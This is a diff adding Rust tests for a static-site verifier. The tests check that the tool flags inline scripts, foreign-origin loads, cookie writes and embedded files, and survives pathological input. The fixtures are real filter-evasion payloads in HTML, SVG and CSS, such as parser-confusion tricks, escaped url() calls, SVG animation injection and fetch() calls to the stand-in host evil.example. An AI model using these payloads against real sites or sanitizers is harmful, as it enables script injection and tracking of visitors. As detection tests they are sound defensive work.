@@ -241,6 +241,317 @@ mod each_finding {
     }
 }
 
+/// Each of these was taken for harmless once, and a browser loaded or ran it.
+mod nothing_hides {
+    use std::time::Duration;
+    use std::time::Instant;
+
+    use super::*;
+
+    /// A site is told to have this problem, and no report is written of it.
+    #[track_caller]
+    fn told(code: &str, archive: Archive, what: &str) {
+        let run = archive.write().verify().arg("--report").arg("privacy.md").run();
+        let found = run.diagnostics.iter().any(|found| found.code == code);
+        assert!(found, "{what}: no {code} in {}", run.stdout);
+        assert!(!run.project.path("privacy.md").exists(), "{what}");
+    }
+
+    #[track_caller]
+    fn told_of_each(code: &str, bodies: &[&str]) {
+        bodies.iter().for_each(|body| told(code, with(body), body));
+    }
+
+    #[track_caller]
+    fn told_of_styles(styles: &[&str]) {
+        for style in styles {
+            told("foreign-origin", sound().file("site/style.css", *style), style);
+        }
+    }
+
+    #[track_caller]
+    fn told_of_scripts(code: &str, scripts: &[&str]) {
+        for script in scripts {
+            told(code, sound().file("site/main.js", *script), script);
+        }
+    }
+
+    #[test]
+    fn in_what_is_text_in_a_page_and_not_in_a_drawing() {
+        told_of_each(
+            "inline-script",
+            &[
+                "<svg><style><img src=x onerror=go()></style></svg>",
+                "<svg><![CDATA[><!--]]></svg><script>go()</script><!-- -->",
+                "<noscript><!--</noscript><script>go()</script>-->",
+                "<math><annotation-xml encoding=text/html><script>go()</script>",
+            ],
+        );
+        told_of_each(
+            "foreign-origin",
+            &[
+                "<svg><title><script src=https://evil.example></script></title></svg>",
+                "<svg><desc><img src=https://evil.example></desc></svg>",
+                "<image src=https://evil.example>",
+            ],
+        );
+    }
+
+    #[test]
+    fn behind_a_second_base() {
+        told_of_each(
+            "foreign-origin",
+            &["<base href=https://evil.example><base href=/><script src=a.js></script>"],
+        );
+        let run = verified(with("<base href=/><base href=/none/><a href=a/>가</a>"));
+        run.succeeds().quietly();
+    }
+
+    #[test]
+    fn in_an_old_attribute() {
+        told_of_each(
+            "foreign-origin",
+            &[
+                "<table><tr><td background=https://evil.example/p.gif>x</table>",
+                "<table background=https://evil.example/p.gif><tr><td>x</table>",
+                "<meta http-equiv=refresh content='0 url=https://evil.example'>",
+            ],
+        );
+    }
+
+    #[test]
+    fn behind_an_attribute_that_means_nothing() {
+        told_of_each(
+            "inline-script",
+            &[
+                "<script href=/main.js>go()</script>",
+                "<svg><script src=/main.js>go()</script></svg>",
+                "<script type='' type=application/json>go()</script>",
+                "<p><body onload=go()>",
+            ],
+        );
+    }
+
+    #[test]
+    fn behind_an_old_type_of_script() {
+        told_of_each(
+            "inline-script",
+            &["<script type=text/jscript>go()</script>", "<script type=text/x-JavaScript>go()</script>"],
+        );
+    }
+
+    #[test]
+    fn in_an_address_that_holds_a_file() {
+        told_of_each("inline-script", &["<script src='data:text/javascript,go()'></script>"]);
+        let frame = "<iframe src='data:text/html,<script src=https://evil.example></script>'></iframe>";
+        told_of_each("embedded-file", &[frame, "<object data=' DATA:text/html,x'></object>"]);
+        let body = format!("{frame}\n<link rel=stylesheet href=\"data:text/css,a{{}}\">");
+        explained("verify-embedded-file", with(&body));
+    }
+
+    #[test]
+    fn in_a_style() {
+        told_of_styles(&[
+            "a{b:image-set(\"https://evil.example/p.png\" 1x)}",
+            "@import/**/\"https://evil.example/a.css\";",
+            "a{b:\\75 rl(https://evil.example/p.png)}",
+            "a{b:url(\"https:\\2f/evil.example/p.png\")}",
+            "a{content:'\r;b:url(//evil.example)}'",
+            "@import 'https://evil.example/a.css",
+        ]);
+    }
+
+    #[test]
+    fn in_a_style_in_a_page() {
+        told_of_each(
+            "foreign-origin",
+            &[
+                "<noscript><style>a{b:url(https://evil.example)}</style></noscript>",
+                "<iframe srcdoc='<style>a{b:url(https://evil.example)}</style>'></iframe>",
+                "<iframe srcdoc='<noscript><p style=b:url(https://evil.example)></noscript>'></iframe>",
+                "<p style='a:&#117;rl(https://evil.example)'>",
+                "<svg><style>a{b:&#117;rl(https://evil.example)}</style></svg>",
+                "<template><style>a{b:url(https://evil.example)}</style></template>",
+            ],
+        );
+    }
+
+    #[test]
+    fn in_a_drawing() {
+        told_of_each(
+            "foreign-origin",
+            &[
+                "<svg><rect fill='url(https://evil.example/f.svg#a)'/></svg>",
+                "<svg><rect clip-path='url(https://evil.example/f.svg#a)'/></svg>",
+                "<svg><image><set attributeName=href to=https://evil.example/p.png /></image></svg>",
+                "<svg><image><animate attributeName=xlink:href values='a.png;https://evil.example'/></image></svg>",
+                "<svg><rect><set attributeName=fill to='url(https://evil.example)'/></rect></svg>",
+            ],
+        );
+        told_of_each(
+            "inline-script",
+            &["<svg><a><animate attributeName=href values='x;javascript:go()'/></a></svg>"],
+        );
+    }
+
+    #[test]
+    fn in_a_drawing_of_its_own() {
+        let names = "xmlns:s='http://www.w3.org/2000/svg' xmlns:x='http://www.w3.org/1999/xlink'";
+        for (code, drawing) in [
+            ("inline-script", format!("<s:svg {names}><s:script>go()</s:script></s:svg>")),
+            ("foreign-origin", format!("<s:svg {names}><s:image x:href='https://evil.example'/></s:svg>")),
+            ("foreign-origin", "<?xml-stylesheet href='https://evil.example/a.css'?><svg/>".to_owned()),
+            ("foreign-origin", "<svg xmlns='http://www.w3.org/2000/svg'><style><![CDATA[a{b:url(//evil.example)}]]></style></svg>".to_owned()),
+            ("inline-script", "<svg xmlns:h='http://www.w3.org/1999/xhtml'><title/><h:script>go()</h:script></svg>".to_owned()),
+        ] {
+            told(code, sound().file("site/a.SVG", drawing.as_str()), &drawing);
+        }
+        let entities =
+            "<!DOCTYPE svg [\n<!ENTITY e 'https://evil.example'>]>\n<svg><image href='&e;'/></svg>";
+        explained(
+            "verify-bad-drawing",
+            sound().file("site/a.svg", entities).file("site/b.svg", "<svg>\n<a></b>"),
+        );
+    }
+
+    #[test]
+    fn behind_a_policy_that_does_not_hold() {
+        let policy = "<meta http-equiv=Content-Security-Policy content=\"default-src 'self'\">";
+        for body in [
+            format!("<p>x{policy}"),
+            format!("<template>{policy}</template>"),
+            format!("<noscript>{policy}</noscript>"),
+        ] {
+            let run = verified(sound().file("site/404.html", format!("<!doctype html>{body}"))).succeeds();
+            run.reports_only(&["no-policy"]);
+        }
+    }
+
+    #[test]
+    fn behind_a_redirect_that_leads_nowhere() {
+        for body in [
+            "<template><meta http-equiv=refresh content='0;url=/'></template>",
+            "<meta http-equiv=refresh content='600;'>",
+        ] {
+            verified(sound().file("site/b.html", page(body))).succeeds().reports_only(&["not-in-sitemap"]);
+        }
+    }
+
+    #[test]
+    fn in_a_file_with_an_unusual_name() {
+        let evil = page("<img src=https://evil.example/p.gif>");
+        told("foreign-origin", sound().file("site/PAGE.HTML", evil), "PAGE.HTML");
+        let script = "document.cookie = 1";
+        told("cookie", with("<script src=/app.JS></script>").file("site/app.JS", script), "app.JS");
+        told("cookie", with("<script src=/lib></script>").file("site/lib", script), "lib");
+        let first = with("<script src=/one></script>").file("site/one", "import './two'");
+        told("cookie", first.file("site/two", script), "two");
+        let style = with("<link rel=stylesheet href=/look>").file("site/look", "@import url(more)");
+        told("foreign-origin", style.file("site/more", "a{b:url(//evil.example)}"), "look");
+    }
+
+    #[test]
+    fn in_a_script() {
+        told_of_scripts(
+            "cookie",
+            &[
+                "`${document.cookie=1}`",
+                "document[\"cookie\"]=1",
+                "if(t) /\"/.test(t); document.cookie=1 //\"",
+            ],
+        );
+        told_of_scripts(
+            "foreign-origin",
+            &[
+                "fetch(\"https:\\/\\/evil.example\")",
+                "fetch(\"HTTPS://evil.example\")",
+                "fetch(`https://evil.example/${x}`)",
+            ],
+        );
+    }
+
+    #[test]
+    fn in_a_file_that_is_not_utf_8() {
+        let utf_16: Vec<u8> =
+            "\u{feff}<img src=//evil.example>".encode_utf16().flat_map(u16::to_le_bytes).collect();
+        explained("verify-not-utf8", sound().file("site/a/index.html", utf_16.clone()));
+        for name in ["site/style.css", "site/main.js"] {
+            told("not-utf8", sound().file(name, utf_16.clone()), name);
+        }
+        let marked = ["\u{feff}", &page("<p id=part>")].concat();
+        verified(sound().file("site/a/index.html", marked)).succeeds().quietly();
+    }
+
+    #[test]
+    fn in_what_is_nested_too_deep() {
+        let deep = format!("{}<img src=//evil.example>", "<div>\n".repeat(2000));
+        explained("verify-too-deep", with(&deep));
+        let frames = "<iframe srcdoc='<iframe srcdoc=\"<script>go()</script>\"></iframe>'></iframe>";
+        told_of_each("too-deep", &[frames]);
+    }
+
+    #[test]
+    fn many_findings_of_a_kind_are_told_in_one() {
+        // there is a page at `/404`
+        let links: String = (0..8000).map(|number| format!("<a href=/{number}>x</a>")).collect();
+        let run = verified(with(&links)).fails();
+        assert_eq!(run.diagnostics.len(), 101);
+        run.reports("dead-link").saying("7899 more places in this file");
+    }
+
+    /// No stack overflows, and what takes a fraction of a second each would take
+    /// minutes if time grew with the square of the size.
+    #[test]
+    fn what_is_made_to_take_long_does_not() {
+        let of = |piece: &str| piece.repeat(250_000 / piece.len());
+        let started = Instant::now();
+        let pages = [
+            "<b>",
+            "<div>",
+            "<p>",
+            "<noscript>",
+            "<a href=x>",
+            "<a href=/>",
+            "<table><tr>",
+            "<svg>",
+            "<template>",
+            "<select>",
+            "<iframe srcdoc='",
+            "<b><p>",
+            "<i id=1>",
+            "</p>",
+            "<p a=1 ",
+            "<![CDATA[",
+            "<!--",
+            "<svg><style>",
+            "<marquee></div>",
+            "<font size=1><p>",
+            "&amp",
+            "<script>",
+            "<title>",
+            "\0",
+        ];
+        let archive = pages.iter().enumerate().fold(sound(), |archive, (number, piece)| {
+            archive.file(&format!("site/p/{number}.html"), page(&of(piece)))
+        });
+        let styles = ["\"\\\"", "\"", "url(", "@import", "\\", "/*", "image-set(", "a{", "'\n"];
+        let archive = styles.iter().enumerate().fold(archive, |archive, (number, piece)| {
+            archive.file(&format!("site/s/{number}.css"), of(piece))
+        });
+        let scripts =
+            ["=/[", "\"\\\"", "`${", "}/[", "(", "/*", "\\u{", "a[\"b\"]", "'", "`", "<!--'", "a/", "+/"];
+        let archive = scripts.iter().enumerate().fold(archive, |archive, (number, piece)| {
+            archive.file(&format!("site/j/{number}.js"), of(piece))
+        });
+        let drawings = ["<g>", "<g a='", "&#1;", "<?a", "<style>", "<a xmlns:a='b'>"];
+        let archive = drawings.iter().enumerate().fold(archive, |archive, (number, piece)| {
+            archive.file(&format!("site/d/{number}.svg"), of(piece))
+        });
+        verified(archive).fails();
+        assert!(started.elapsed() < Duration::from_secs(60), "{:?}", started.elapsed());
+    }
+}
+
 mod the_report {
     use super::*;
 
